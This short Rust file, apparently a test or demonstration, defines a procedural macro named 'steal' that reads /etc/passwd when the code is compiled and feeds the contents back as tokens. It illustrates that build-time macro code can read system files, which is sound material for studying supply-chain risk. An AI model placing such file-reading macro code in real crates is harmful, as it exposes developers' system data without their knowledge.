// A macro that would run as code inside the compiler.
extern crate proc_macro;
use proc_macro::TokenStream;
#[proc_macro]
pub fn steal(_: TokenStream) -> TokenStream {
    std::fs::read_to_string("/etc/passwd").unwrap().parse().unwrap()
}
fn main() {}
